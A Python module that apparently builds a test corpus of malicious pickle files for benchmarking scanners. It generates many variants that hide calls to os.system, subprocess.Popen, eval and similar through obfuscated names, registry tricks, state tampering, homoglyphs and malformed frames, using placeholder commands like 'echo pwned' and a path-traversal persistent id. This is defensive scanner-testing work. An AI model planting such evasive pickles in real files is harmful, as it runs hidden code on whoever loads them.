"""Pickles whose structure hides a call from whoever reads opcodes without being the machine that runs them."""

from __future__ import annotations

import base64
import bz2
import codecs
import lzma
import struct
import zlib
from collections.abc import Callable, Iterator
from random import Random

from bench.scan.corpus import assembler as a
from bench.scan.corpus.sample import Sample, chance_of, payload, runner, stream

Made = Iterator[tuple[str, bytes] | tuple[str, bytes, str]]
OS = a.named("os", "system")
COMMAND = a.short("echo pwned")
CODE = a.short("print('pwned')")


def names(chance: Random) -> Made:
    """The two names of STACK_GLOBAL written, moved and computed in every way."""
    module, name, text = runner(chance)
    end = a.tuple_(a.short(text)) + a.REDUCE
    ways: dict[str, Callable[[str], bytes]] = {
        "binunicode": a.binunicode,
        "binunicode8": a.binunicode8,
        "unicode": a.unicode_,
        "unicode-escapes": a.escaped,
        "string": a.string,
        "binstring": a.binstring,
        "short-binstring": a.short_binstring,
    }
    for way, write in ways.items():
        yield f"name-as-{way}", a.whole(write(module) + write(name) + a.STACK_GLOBAL + end)
    yield "names-of-two-kinds", a.whole(a.escaped(module) + a.binunicode8(name) + a.STACK_GLOBAL + end)
    yield (
        "string-octal-escapes",
        a.whole(
            a.quoted(b"'" + b"".join(b"\\%03o" % c for c in module.encode()) + b"'")
            + a.quoted(b'"' + b"".join(b"\\x%02x" % c for c in name.encode()) + b'"')
            + a.STACK_GLOBAL
            + end
        ),
    )
    pair = a.short(module) + a.short(name)
    yield "pop-between", a.whole(a.short(module) + a.NONE + a.POP + a.short(name) + a.STACK_GLOBAL + end)
    yield (
        "pop-mark-between",
        a.whole(
            a.short(module)
            + a.MARK
            + a.short("collections")
            + a.short("x")
            + a.POP_MARK
            + a.short(name)
            + a.STACK_GLOBAL
            + end
        ),
    )
    yield (
        "innocent-last-strings",
        a.whole(pair + a.short("OrderedDict") + a.POP + a.STACK_GLOBAL + end),
    )
    yield (
        "innocent-pair-in-between",
        a.whole(pair + a.tuple_(a.short("collections"), a.short("OrderedDict")) + a.POP + a.STACK_GLOBAL + end),
    )
    yield (
        "innocent-memo-in-between",
        a.whole(
            pair + a.short("collections") + a.binput(9) + a.POP + a.MEMOIZE + a.POP + a.binget(9) + a.POP
            + a.short(name) + a.STACK_GLOBAL + end
        ),
    )
    yield "dup-names", a.whole(a.short("code") + a.DUP + a.POP + a.short("interact") + a.STACK_GLOBAL + a.EMPTY_TUPLE + a.REDUCE)
    yield "same-name-twice", a.whole(a.short("pdb") + a.POP + a.short("code") + a.short("interact") + a.STACK_GLOBAL + a.EMPTY_TUPLE + a.REDUCE)
    yield (
        "memo-both",
        a.whole(
            a.short(name) + a.MEMOIZE + a.POP + a.short(module) + a.MEMOIZE + a.POP
            + a.binget(1) + a.binget(0) + a.STACK_GLOBAL + end
        ),
    )
    yield (
        "memo-swapped",
        a.whole(
            a.short("collections") + a.binput(0) + a.POP + a.short("OrderedDict") + a.binput(1) + a.POP
            + a.short(module) + a.long_binput(0) + a.POP + a.short(name) + a.put(1) + a.POP
            + a.get(0) + a.long_binget(1) + a.STACK_GLOBAL + end
        ),
    )
    yield (
        "memoize-after-high-put",
        a.whole(
            a.short("collections") + a.long_binput(70000) + a.POP + a.short(module) + a.MEMOIZE + a.POP
            + a.binget(1) + a.short(name) + a.STACK_GLOBAL + end
        ),
    )
    yield (
        "memoize-collides-with-put",
        a.whole(
            a.short("x") + a.MEMOIZE + a.POP + a.short("collections") + a.binput(2) + a.POP
            + a.short(module) + a.MEMOIZE + a.POP + a.binget(2) + a.short(name) + a.STACK_GLOBAL + end
        ),
    )
    yield (
        "memo-text-index-odd",
        a.whole(
            a.short(module) + a.put("+7") + a.POP + a.get(" 7") + a.short(name) + a.put("0_8") + a.POP
            + a.get("8") + a.STACK_GLOBAL + end
        ),
    )
    yield (
        "memo-of-callable",
        a.whole(a.named(module, name) + a.MEMOIZE + a.POP + a.EMPTY_DICT + a.MEMOIZE + a.POP + a.binget(0) + end),
    )
    yield (
        "memo-of-arguments",
        a.whole(a.tuple_(a.short(text)) + a.binput(3) + a.POP + a.named(module, name) + a.binget(3) + a.REDUCE),
    )
    yield (
        "memo-self-made-list",
        a.whole(
            a.list_(a.short(module), a.short(name)) + a.binput(0) + a.POP
            + a.short(module) + a.short(name) + a.STACK_GLOBAL + end
        ),
    )
    yield "overlong-module-path", a.whole(a.named("os", "path.os.system") + end)
    yield "leading-noise", a.whole(a.proto(4) * 6 + a.frame(b"") * 3 + pair + a.STACK_GLOBAL + end)
    yield "proto-between-names", a.whole(a.short(module) + a.proto(2) + a.short(name) + a.proto(5) + a.STACK_GLOBAL + end)


def computed(chance: Random) -> Made:
    """Names, callables and arguments that are results of calls."""
    module, name, text = runner(chance)
    end = a.tuple_(a.short(text)) + a.REDUCE

    def via(expression_module: bytes, expression_name: bytes) -> bytes:
        return a.whole(expression_module + expression_name + a.STACK_GLOBAL + end)

    def reversed_text(word: str) -> bytes:
        return a.call(
            a.named("builtins", "str.join"),
            a.short(""),
            a.call(a.named("builtins", "reversed"), a.short(word[::-1])),
        )

    def replaced(word: str) -> bytes:
        return a.call(a.named("builtins", "str.replace"), a.short("-".join(word)), a.short("-"), a.short(""))

    def formatted(word: str) -> bytes:
        return a.call(a.named("builtins", "str.format"), a.short("{}{}"), a.short(word[:1]), a.short(word[1:]))

    def from_bytes(word: str) -> bytes:
        return a.call(a.named("builtins", "str"), a.short_binbytes(word.encode()), a.short("ascii"))

    def rot(word: str) -> bytes:
        return a.call(a.named("_codecs", "decode"), a.short(codecs.encode(word, "rot13")), a.short("rot13"))

    def hexed(word: str) -> bytes:
        raw = a.call(a.named("binascii", "unhexlify"), a.short_binbytes(word.encode().hex().encode()))
        return a.call(a.named("_codecs", "decode"), raw, a.short("ascii"))

    def characters(word: str) -> bytes:
        made = [a.call(a.named("builtins", "chr"), a.binint1(ord(character))) for character in word]
        return a.call(a.named("builtins", "str.join"), a.short(""), a.list_(*made))

    def concatenated(word: str) -> bytes:
        return a.call(a.named("_operator", "concat"), a.short(word[:2]), a.short(word[2:]))

    def encoded(word: str) -> bytes:
        raw = a.call(a.named("_codecs", "encode"), a.short(word), a.short("latin1"))
        return a.call(a.named("_codecs", "decode"), raw, a.short("latin1"))

    def from_dict(word: str) -> bytes:
        return a.call(a.named("builtins", "dict.get"), a.dict_((a.short("k"), a.short(word))), a.short("k"))

    makers = (
        reversed_text, replaced, formatted, from_bytes, rot, hexed, characters, concatenated, encoded, from_dict,
    )  # fmt: skip
    for maker in makers:
        label = maker.__name__.replace("_", "-")
        yield f"module-{label}", via(maker(module), a.short(name))
        yield f"name-{label}", via(a.short(module), maker(name))
    get = a.named("builtins", "getattr")
    imported = a.call(a.named("importlib", "import_module"), a.short("os"))
    yield "getattr-of-import", a.whole(a.call(a.call(get, imported, a.short("system")), COMMAND))
    yield (
        "getattr-twice",
        a.whole(a.call(a.call(get, a.call(get, a.global_("shutil", "os"), a.short("path")), a.short("join")), COMMAND)
                + a.POP + a.call(a.call(get, a.global_("shutil", "os"), a.short("system")), COMMAND)),
    )
    for maker_module, maker_name in (("operator", "attrgetter"), ("_operator", "attrgetter")):
        getter = a.call(a.named(maker_module, maker_name), a.short("os.system"))
        yield f"{maker_module}-attrgetter", a.whole(a.call(a.call(getter, a.named("shutil", "os")), COMMAND))
    modules = a.named("sys", "modules")
    taken = a.call(a.named("operator", "getitem"), modules, a.short("os"))
    yield "sys-modules-getitem", a.whole(a.call(a.call(get, taken, a.short("system")), COMMAND))
    yield "sys-modules-dict-get", a.whole(a.call(a.call(get, a.call(a.named("builtins", "dict.get"), modules, a.short("os")), a.short("system")), COMMAND))
    yield "globals-of-function", a.whole(a.call(a.named("operator", "getitem"), a.named("shutil", "copyfile.__globals__"), a.short("os")))
    yield "builtins-of-module", a.whole(a.call(a.call(a.named("operator", "getitem"), a.named("collections", "__builtins__"), a.short("eval")), CODE))
    yield "loader-load-module", a.whole(a.call(a.call(a.named("builtins", "getattr"), a.named("collections", "__loader__"), a.short("load_module")), a.short("os")))
    yield "subclasses-walk", a.whole(a.call(a.named("builtins", "list.__getitem__"), a.call(a.named("builtins", "type.__subclasses__"), a.named("builtins", "object")), a.binint2(140)))
    yield "class-mro-init-globals", a.whole(a.named("argparse", "ArgumentParser.__init__.__globals__") + a.EMPTY_TUPLE + a.REDUCE)
    yield "dotted-spec-loader", a.whole(a.call(a.named("decimal", "__spec__.loader.exec_module"), a.named("os", "path")))
    yield "dotted-through-method", a.whole(a.call(a.named("collections", "OrderedDict.__init__.__self__"), COMMAND))
    yield "dotted-reexport", a.whole(a.call(a.named("random", "_os.system"), COMMAND))
    yield "global-dotted-module-attr", a.whole(a.call(a.named("pathlib", "os.system"), COMMAND))
    yield "reexport-proto2", a.whole(a.call(a.global_("random", "_urandom"), a.binint1(8)) + a.POP + a.call(a.global_("tempfile", "_os"), COMMAND), 2)
    alias = a.call(a.global_("posixpath", "os"), a.binunicode("x"))
    yield "module-object-called", a.whole(alias, 2)
    for module_, name_ in (("functools", "partial"), ("_functools", "partial")):
        yield f"{module_}-partial", a.whole(a.call(a.call(a.named(module_, name_), OS, COMMAND)))
    yield "partial-of-partial", a.whole(a.call(a.call(a.named("functools", "partial"), a.call(a.named("functools", "partial"), OS), COMMAND)))
    yield "partial-by-build", a.whole(
        a.call(a.named("functools", "partial"), a.named("builtins", "len"))
        + a.tuple_(OS, a.tuple_(COMMAND), a.EMPTY_DICT, a.NONE) + a.BUILD + a.EMPTY_TUPLE + a.REDUCE
    )  # fmt: skip
    yield "map-drained-by-list", a.whole(a.call(a.named("builtins", "list"), a.call(a.named("builtins", "map"), OS, a.list_(COMMAND))))
    yield "map-drained-by-bytes", a.whole(a.call(a.named("builtins", "bytes"), a.call(a.named("builtins", "map"), OS, a.list_(COMMAND))))
    yield "filter-drained-by-deque", a.whole(a.call(a.named("collections", "deque"), a.call(a.named("builtins", "filter"), OS, a.list_(COMMAND))))
    yield "starmap-drained-by-set", a.whole(a.call(a.named("builtins", "set"), a.call(a.named("itertools", "starmap"), OS, a.list_(a.tuple_(COMMAND)))))
    yield "accumulate", a.whole(a.call(a.named("builtins", "tuple"), a.call(a.named("itertools", "accumulate"), a.list_(COMMAND, COMMAND), a.named("subprocess", "getoutput"))))
    yield "groupby-key", a.whole(a.call(a.named("builtins", "dict"), a.call(a.named("itertools", "groupby"), a.list_(COMMAND), OS)))
    yield "max-key", a.whole(a.call(a.named("functools", "partial"), a.named("builtins", "max")) + a.tuple_(a.named("builtins", "max"), a.tuple_(a.list_(COMMAND, COMMAND)), a.dict_((a.short("key"), OS)), a.NONE) + a.BUILD + a.EMPTY_TUPLE + a.REDUCE)
    yield "iter-sentinel", a.whole(a.call(a.named("builtins", "next"), a.call(a.named("builtins", "iter"), a.call(a.named("functools", "partial"), OS, COMMAND), a.binint1(9))))
    yield "defaultdict-factory", a.whole(a.call(a.named("operator", "getitem"), a.call(a.named("collections", "defaultdict"), a.call(a.named("functools", "partial"), OS, COMMAND)), a.short("k")))
    yield "methodcaller-system", a.whole(a.call(a.call(a.named("operator", "methodcaller"), a.short("system"), COMMAND), a.named("shutil", "os")))
    yield "operator-call", a.whole(a.call(a.named("operator", "call"), OS, COMMAND))
    yield "weakref-finalize", a.whole(a.call(a.named("weakref", "finalize"), a.named("collections", "OrderedDict"), OS, COMMAND))
    yield "re-sub-callback", a.whole(a.call(a.named("re", "sub"), a.short("."), OS, COMMAND))
    yield "ctypes-cfunctype", a.whole(a.call(a.call(a.named("ctypes", "CFUNCTYPE"), a.NONE), OS))
    yield "cached-property", a.whole(a.call(a.named("functools", "cached_property.__get__"), a.call(a.named("functools", "cached_property"), OS), COMMAND))
    yield "singledispatch", a.whole(a.call(a.call(a.named("functools", "singledispatch"), OS), COMMAND))
    yield "lru-cache-wraps", a.whole(a.call(a.call(a.named("functools", "lru_cache"), OS), COMMAND))
    yield "simplequeue-thread", a.whole(a.call(a.named("_thread", "start_new_thread"), OS, a.tuple_(COMMAND)))
    yield "exitstack-callback", a.whole(a.call(a.named("contextlib", "ExitStack.callback"), a.call(a.named("contextlib", "ExitStack")), OS, COMMAND))
    yield "ast-compile-eval", a.whole(a.call(a.named("builtins", "eval"), a.call(a.named("builtins", "compile"), CODE, a.short("x"), a.short("eval"))))
    yield "functiontype-of-codetype", a.whole(a.call(a.call(a.named("types", "FunctionType"), a.call(a.named("builtins", "compile"), CODE, a.short("m"), a.short("exec")), a.EMPTY_DICT)))
    yield "methodtype-bound", a.whole(a.call(a.call(a.named("types", "MethodType"), OS, COMMAND)))
    yield "builtin-type-class", a.whole(a.call(a.named("builtins", "type"), a.short("X"), a.tuple_(a.named("builtins", "object")), a.dict_((a.short("__reduce__"), OS))))
    yield "build-class-set-name", a.whole(a.call(a.named("builtins", "type"), a.short("X"), a.EMPTY_TUPLE, a.dict_((a.short("a"), a.call(a.named("types", "SimpleNamespace")) + a.dict_((a.short("__set_name__"), OS)) + a.BUILD))))
    yield "types-new-class-body", a.whole(a.call(a.named("types", "new_class"), a.short("X"), a.EMPTY_TUPLE, a.NONE, a.named("builtins", "print")))


def effects(chance: Random) -> Made:
    """State and items put into what was imported: nothing is called, and yet it changes what runs later."""
    module, name, text = runner(chance)
    state = a.dict_((a.short("load"), a.named(module, name)))
    for label, target in {
        "module-function": a.named("json", "loads"),
        "module": a.named("collections", "abc"),
        "class": a.named("collections", "OrderedDict"),
        "third-party-class": a.named("sklearn.linear_model._logistic", "LogisticRegression"),
        "type-of-tensors": a.named("torch._utils", "_rebuild_tensor_v2"),
        "submodule": a.named("numpy", "linalg"),
        "loader": a.named("json", "__loader__"),
    }.items():
        yield f"build-on-{label}", a.whole(target + state + a.BUILD)
        yield f"build-slots-on-{label}", a.whole(target + a.tuple_(a.NONE, state) + a.BUILD)
    yield "build-then-call", a.whole(a.named("numpy", "size") + a.dict_((a.short("__code__"), a.NONE)) + a.BUILD + a.tuple_(CODE) + a.REDUCE)
    yield "build-setstate-planted", a.whole(a.call(a.named("types", "SimpleNamespace")) + a.dict_((a.short("__setstate__"), OS)) + a.BUILD + COMMAND + a.BUILD)
    yield "build-setstate-exception", a.whole(a.call(a.named("builtins", "Exception")) + a.dict_((a.short("__setstate__"), a.named("subprocess", "getoutput"))) + a.BUILD + COMMAND + a.BUILD)
    yield "append-planted", a.whole(a.call(a.named("types", "SimpleNamespace")) + a.dict_((a.short("append"), OS)) + a.BUILD + COMMAND + a.APPEND)
    yield "extend-planted", a.whole(a.call(a.named("argparse", "Namespace")) + a.dict_((a.short("extend"), OS), (a.short("append"), OS)) + a.BUILD + a.MARK + COMMAND + a.APPENDS)
    yield "additems-planted-add", a.whole(a.call(a.named("types", "SimpleNamespace")) + a.dict_((a.short("add"), OS)) + a.BUILD + a.MARK + COMMAND + a.ADDITEMS)
    for label, target in {"sys-modules": a.named("sys", "modules"), "environ": a.named("os", "environ"), "dispatch-table": a.named("copyreg", "dispatch_table"), "extension-registry": a.named("copyreg", "_inverted_registry"), "importer-cache": a.named("sys", "path_importer_cache"), "builtins-dict": a.named("builtins", "__dict__"), "codecs-cache": a.named("encodings", "_cache"), "numpy-sctype": a.named("numpy", "sctypeDict")}.items():  # fmt: skip
        yield f"setitem-on-{label}", a.whole(target + a.short("json") + a.named(module, name) + a.SETITEM)
        yield f"setitems-on-{label}", a.whole(target + a.MARK + a.short("PATH") + a.short("/pwned") + a.SETITEMS)
    for label, target in {"sys-path": a.named("sys", "path"), "meta-path": a.named("sys", "meta_path"), "path-hooks": a.named("sys", "path_hooks"), "warnings-filters": a.named("warnings", "filters"), "atexit-list": a.named("gc", "callbacks"), "site-prefixes": a.named("site", "PREFIXES"), "loader-suffixes": a.named("importlib.machinery", "SOURCE_SUFFIXES")}.items():  # fmt: skip
        yield f"append-on-{label}", a.whole(target + a.short("/pwned") + a.APPEND)
        yield f"appends-on-{label}", a.whole(target + a.MARK + a.named(module, name) + a.APPENDS)
    yield "additems-on-imported-set", a.whole(a.named("keyword", "kwlist") + a.MARK + a.short("x") + a.ADDITEMS)
    yield "setitem-with-computed-key", a.whole(a.EMPTY_DICT + payload(chance) + a.NONE + a.SETITEM)
    key = a.call(a.named("types", "SimpleNamespace")) + a.dict_((a.short("__hash__"), OS)) + a.BUILD
    yield "dict-key-with-hash", a.whole(a.EMPTY_DICT + a.call(a.named("builtins", "type"), a.short("K"), a.EMPTY_TUPLE, a.dict_((a.short("__hash__"), OS))) + a.EMPTY_TUPLE + a.NEWOBJ + a.NONE + a.SETITEM)
    yield "set-member-with-hash", a.whole(a.EMPTY_SET + a.MARK + key + a.call(a.named("builtins", "type"), a.short("K"), a.EMPTY_TUPLE, a.dict_((a.short("__eq__"), OS), (a.short("__hash__"), a.named("builtins", "len")))) + a.ADDITEMS)
    yield "frozenset-of-payload", a.whole(a.MARK + payload(chance) + a.FROZENSET)
    yield "payload-as-state", a.whole(a.call(a.named("collections", "OrderedDict")) + a.dict_((a.short("x"), payload(chance))) + a.BUILD)
    yield "payload-as-key", a.whole(a.dict_((payload(chance), a.binint1(1))))
    yield "payload-as-argument", a.whole(a.call(a.named("collections", "OrderedDict"), a.list_(a.tuple_(a.short("k"), payload(chance)))))
    yield "payload-as-persistent-id", a.whole(a.tuple_(a.short("storage"), payload(chance)) + a.BINPERSID)
    yield "payload-under-mark-dropped", a.whole(a.MARK + payload(chance) + a.POP_MARK + a.EMPTY_DICT)
    yield "payload-left-on-stack", a.whole(payload(chance) + a.EMPTY_DICT)
    yield "payload-in-name-operands", a.whole(a.short("collections") + payload(chance) + a.POP + a.short("OrderedDict") + a.STACK_GLOBAL + a.EMPTY_TUPLE + a.REDUCE)


def opcodes(chance: Random) -> Made:
    """Every opcode that can make or call something, and the registries behind some of them."""
    module, name, text = runner(chance)
    for label, write in {"unicode": a.unicode_, "binunicode": a.binunicode, "string": a.string, "short-binstring": a.short_binstring}.items():  # fmt: skip
        yield f"inst-{label}", a.whole(a.inst(module, name, write(text)), 0)
        yield f"obj-{label}", a.whole(a.obj(a.global_(module, name), write(text)), 1)
    yield "inst-without-mark-noise", a.whole(a.MARK + a.POP + a.inst(module, name, a.unicode_(text)), 0)
    yield "inst-nested-marks", a.whole(a.MARK + a.MARK + a.unicode_(text) + b"i" + module.encode() + b"\n" + name.encode() + b"\n" + a.POP_MARK + a.NONE, 0)
    yield "newobj-popen", a.whole(a.named("subprocess", "Popen") + a.tuple_(a.list_(a.short("echo"), a.short("pwned"))) + a.NEWOBJ)
    yield "newobj-proto2", a.whole(a.global_("subprocess", "Popen") + a.tuple_(a.binunicode("echo pwned")) + a.NEWOBJ, 2)
    yield "newobj-ex-shell", a.whole(a.named("subprocess", "Popen") + a.tuple_(COMMAND) + a.dict_((a.short("shell"), a.NEWTRUE)) + a.NEWOBJ_EX)
    yield "newobj-ex-by-copyreg", a.whole(a.call(a.named("copyreg", "__newobj_ex__"), a.named("subprocess", "Popen"), a.tuple_(COMMAND), a.dict_((a.short("shell"), a.NEWTRUE))))
    yield "newobj-by-copyreg", a.whole(a.call(a.named("copyreg", "__newobj__"), a.named("subprocess", "Popen"), COMMAND))
    yield "newobj-by-copy-reg", a.whole(a.call(a.global_("copy_reg", "__newobj__"), a.global_("subprocess", "Popen"), a.binunicode("echo")), 2)
    yield "reconstructor", a.whole(a.call(a.named("copyreg", "_reconstructor"), a.named("subprocess", "Popen"), a.named("builtins", "object"), a.NONE) + a.dict_((a.short("args"), COMMAND)) + a.BUILD)
    yield "reconstructor-base-call", a.whole(a.call(a.named("copyreg", "_reconstructor"), a.named("builtins", "map"), a.named("builtins", "map"), OS))
    yield "copyreg-reduce-ex", a.whole(a.call(a.named("copyreg", "_reduce_ex"), OS, a.binint1(2)))
    yield "copyreg-pickle-function", a.whole(a.call(a.named("copyreg", "pickle"), a.named("builtins", "list"), OS))
    registered = a.call(a.named("copyreg", "add_extension"), a.short("os"), a.short("system"), a.binint1(86)) + a.POP
    for width, code in (("ext1", a.ext1(86)), ("ext2", a.ext2(86)), ("ext4", a.ext4(86))):
        yield f"{width}-registered-here", a.whole(registered + code + a.tuple_(COMMAND) + a.REDUCE)
        yield f"{width}-registered-elsewhere", a.whole(code + a.tuple_(COMMAND) + a.REDUCE), "gray"
    yield "ext-registry-setitem", a.whole(a.named("copyreg", "_inverted_registry") + a.binint1(87) + a.tuple_(a.short("os"), a.short("system")) + a.SETITEM + a.ext1(87) + a.tuple_(COMMAND) + a.REDUCE)
    yield "ext-cache-setitem", a.whole(a.named("copyreg", "_extension_cache") + a.binint1(88) + OS + a.SETITEM + a.ext1(88) + a.tuple_(COMMAND) + a.REDUCE)
    yield "ext4-negative", a.whole(payload(chance) + a.ext4(-1))
    yield "persid-of-path", a.whole(a.persid("../../../../etc/passwd"), 0), "gray"
    yield "binpersid-tuple-callable", a.whole(a.tuple_(a.short("storage"), OS, a.short("0"), a.short("cpu"), a.binint1(1)) + a.BINPERSID)
    yield "binpersid-then-reduce", a.whole(a.tuple_(a.short("storage"), a.global_("torch", "FloatStorage")) + a.BINPERSID + a.tuple_(COMMAND) + a.REDUCE)
    yield "next-buffer-called", a.whole(a.NEXT_BUFFER + a.tuple_(COMMAND) + a.REDUCE, 5), "gray"
    yield "readonly-buffer-name", a.whole(payload(chance) + a.POP + a.NEXT_BUFFER + a.READONLY_BUFFER, 5)
    for version in range(6):
        body = a.call(a.global_(module, name), a.unicode_(text) if version == 0 else a.binunicode(text))
        if version == 0:
            body = a.global_(module, name) + a.MARK + a.unicode_(text) + a.TUPLE + a.REDUCE
        yield f"global-protocol-{version}", a.whole(body, version)
    yield "proto-6", b"\x80\x06" + a.call(OS, COMMAND) + a.STOP, "gray"
    yield "proto-255", payload(chance) + b"\x80\xff" + a.STOP
    yield "proto-late", a.NONE + a.POP + a.proto(4) + payload(chance) + a.STOP
    yield "no-proto-stack-global", payload(chance) + a.STOP
    for label, (old_module, old_name) in {"builtin-apply": ("__builtin__", "apply"), "builtin-execfile": ("__builtin__", "execfile"), "builtin-raw-input": ("__builtin__", "raw_input"), "commands": ("commands", "getstatusoutput"), "urllib": ("urllib", "urlretrieve"), "urllib2": ("urllib2", "urlopen"), "httplib": ("httplib", "HTTPConnection"), "xmlrpclib": ("xmlrpclib", "ServerProxy"), "anydbm": ("anydbm", "open"), "dumbdbm": ("dumbdbm", "open"), "thread": ("thread", "start_new_thread"), "copy-reg": ("copy_reg", "add_extension"), "user-dict": ("UserDict", "UserDict"), "popen2": ("popen2", "popen3"), "new-instancemethod": ("new", "instancemethod"), "robotparser": ("robotparser", "RobotFileParser"), "subprocess-alias": ("os", "popen2"), "itertools-imap": ("itertools", "imap"), "cpickle": ("cPickle", "loads")}.items():  # fmt: skip
        yield f"python2-name-{label}", a.whole(a.call(a.global_(old_module, old_name), a.binunicode("echo pwned")), 2), "gray" if label in ("user-dict",) else "core"


def texts(chance: Random) -> Made:
    """Text arguments of protocol 0 and lengths that readers take differently from the machine."""
    module, name, text = runner(chance)
    body = a.global_(module, name) + a.MARK + a.unicode_(text) + a.TUPLE + a.REDUCE
    before = {
        "int-underscore": a.int_("1_000"), "int-spaces": a.int_("  12  "), "int-plus": a.int_("+5"), "int-true": a.int_("01"),
        "int-false": a.int_("00"), "int-000": a.int_("007"), "int-tab": a.int_("\t3"), "int-arabic-digits": a.int_("٣"),
        "int-long-suffix": a.long_("12L"), "long-no-suffix": a.long_("12"), "long-double-suffix": a.long_("1LL"),
        "long-base": a.long_("-0L"), "long-9000-digits": a.long_("9" * 9000 + "L"), "long-4300-digits": a.long_("9" * 4300 + "L"),
        "float-nan": a.float_("nan"), "float-infinity": a.float_("-Infinity"), "float-underscore": a.float_("1_0.5"),
        "float-spaces": a.float_(" 1e5 "), "float-hex": a.float_("0x1p3"), "float-overflow": a.float_("1e999"),
        "string-double-quotes": a.quoted(b'"x"'), "string-escape-newline": a.quoted(b"'a\\nb'"),
        "string-bytes-over-127": a.quoted(b"'\xff\xfe'"), "string-bad-escape": a.quoted(b"'\\q'"),
        "string-quote-inside": a.quoted(b"'it's'"), "string-triple": a.quoted(b"'''x'''"),
        "unicode-surrogate": a.unicode_(b"\\ud800"), "unicode-wide": a.unicode_(b"\\U0001f40d"),
        "unicode-empty": a.unicode_(b""), "unicode-cr": a.unicode_(b"a\rb"), "unicode-backslash-u-cut": a.unicode_(b"\\u00"),
        "persid-empty": a.persid(""), "binunicode-surrogate": a.binunicode(b"\xed\xa0\x80"),
        "binunicode-bad-utf8": a.binunicode(b"\xff\xfe"), "long1-empty": a.long1(b""), "long1-255": a.long1(b"\x7f" * 255),
        "long4-empty": a.long4(b""), "long4-64k": a.long4(b"\x7f" * 65536), "binfloat-nan": a.binfloat(float("nan")),
    }  # fmt: skip
    # What CPython stops at comes after the payload, what it takes comes before.
    stops = {
        "int-spaces", "string-bad-escape", "string-quote-inside", "string-triple", "float-hex", "unicode-backslash-u-cut",
        "long-double-suffix", "float-overflow", "float-spaces", "float-underscore", "int-arabic-digits", "long-9000-digits", "persid-empty", "binunicode-bad-utf8", "string-bytes-over-127",
    }  # fmt: skip
    for label, noise in before.items():
        whole = body + noise + a.STOP if label in stops else noise + a.POP + body + a.STOP
        yield f"text-{label}", whole
    yield "global-cr-lf", b"c" + module.encode() + b"\r\n" + name.encode() + b"\n" + a.MARK + a.unicode_(text) + a.TUPLE + a.REDUCE + a.STOP, "gray"
    yield "global-nul-in-module", a.whole(a.call(a.global_(module + "\0x", name), a.binunicode(text)), 2), "gray"
    yield "global-space-in-name", a.whole(a.call(a.global_(module, name + " "), a.binunicode(text)), 2), "gray"
    for label, spelled in {"fullwidth": "ｏs", "cyrillic": "оs", "zero-width": "o\u200bs", "combining": "os\u0301", "bidi": "\u202eso"}.items():
        yield f"module-{label}", a.whole(a.call(a.named(spelled, "system"), COMMAND))
        yield f"name-{label}", a.whole(a.call(a.named("os", spelled), COMMAND))
    yield "module-empty", a.whole(a.call(a.named("", "system"), COMMAND))
    yield "name-empty", a.whole(a.call(a.named("os", ""), COMMAND))
    yield "name-1000-dots", a.whole(a.named("os", ".".join(["path"] * 1000)))
    yield "name-60-kilobytes", a.whole(a.named("os", "x" * 60000))
    yield "module-relative", a.whole(a.call(a.named(".os", "system"), COMMAND))
    yield "module-main", a.whole(a.call(a.named("__main__", "predict"), COMMAND)), "gray"
    yield "module-mp-main", a.whole(a.call(a.named("__mp_main__", "os"), COMMAND)), "gray"
    yield "module-pickle-itself", a.whole(a.call(a.named("pickle", "_loads"), a.short_binbytes(stream(chance))))
    # Lengths.
    bad = payload(chance)
    for label, tail in {
        "binunicode-too-long": b"X" + struct.pack("<I", 2**31) + b"x", "binunicode8-2-63": b"\x8d" + struct.pack("<Q", 2**63) + b"x",
        "binbytes8-2-62": b"\x8e" + struct.pack("<Q", 2**62) + b"x", "bytearray8-huge": b"\x96" + struct.pack("<Q", 2**40),
        "binstring-negative": b"T" + struct.pack("<i", -1), "long4-negative": a.long4(b"", -5), "long4-2-gigabytes": a.long4(b"\1", 2**31 - 1),
        "frame-too-long": b"\x95" + struct.pack("<Q", 2**40) + a.STOP, "frame-cut": b"\x95\x01", "opcode-unknown": b"\xff" + a.STOP, "opcode-nul": b"\0" + a.STOP,
        "underflow-pop": a.POP * 3 + a.STOP, "underflow-mark": a.TUPLE + a.STOP, "memo-absent": a.binget(200) + a.STOP,
        "stop-on-empty": a.POP + a.STOP, "global-cut": b"cos\nsys", "no-newline": b"Vabc", "put-negative": a.put(-1) + a.STOP,
        "long-binput-2-32": a.NONE + a.long_binput(2**32 - 1) + a.STOP, "get-huge": a.get("9" * 40) + a.STOP, "setitems-odd": a.EMPTY_DICT + a.MARK + a.NONE + a.SETITEMS + a.STOP,
        "build-none": a.NONE + a.BUILD + a.STOP, "cut-after-payload": b"", "newobj-none": a.NONE + a.EMPTY_TUPLE + a.NEWOBJ + a.STOP,
    }.items():  # fmt: skip
        yield f"tail-{label}", a.proto(4) + bad + tail


def frames(chance: Random) -> Made:
    """Frames that do not end where opcodes do. CPython refuses those that are gray before it comes to the payload."""
    module, name, text = runner(chance)
    body = a.call(a.named(module, name), a.short(text)) + a.STOP
    yield "frame-short", a.proto(4) + a.frame(body, len(body) - 5)
    yield "frame-long", a.proto(4) + a.frame(body, len(body) + 9), "gray"
    yield "frame-per-opcode", a.proto(4) + b"".join(a.frame(part) for part in (a.short(module), a.short(name), a.STACK_GLOBAL, a.short(text), a.TUPLE1, a.REDUCE, a.STOP))
    yield "frame-empty-many", a.proto(4) + a.frame(b"") * 500 + body
    yield "frame-in-protocol-2", a.proto(2) + a.frame(body)
    yield "frame-nested", a.proto(4) + a.frame(a.frame(body))
    yield "frame-two-streams", a.proto(4) + a.frame(a.NONE + a.STOP + a.proto(4) + body), "gray"
    cut = a.short(module)
    yield "frame-splits-name", a.proto(4) + a.frame(cut[:3]) + cut[3:] + a.short(name) + a.STACK_GLOBAL + a.short(text) + a.TUPLE1 + a.REDUCE + a.STOP, "gray"
    yield "frame-splits-argument", a.proto(4) + a.frame(a.short(module) + b"\x8c" + bytes([len(name)])) + a.frame(name.encode() + a.STACK_GLOBAL) + a.short(text) + a.TUPLE1 + a.REDUCE + a.STOP, "gray"
    hidden = a.binunicode(a.frame(b"").ljust(12, b"x"))
    yield "frame-inside-string", a.proto(4) + hidden + a.POP + body, "gray"
    for at in (1, 4, 7):
        yield f"frame-ends-inside-opcode-{at}", a.proto(4) + a.frame(a.short("collections") + a.short("OrderedDict")[:at], None) + a.short("OrderedDict")[at:] + a.STACK_GLOBAL + body, "core" if at == 1 else "gray"


def streams(chance: Random) -> Made:
    """More than one pickle in a file, things before and after, pickles inside data."""
    bad, good = stream(chance), a.framed(a.dict_((a.short("a"), a.binint1(1))))
    yield "second-stream", good + bad
    yield "tenth-stream", good * 9 + bad
    yield "stream-300", good * 299 + bad
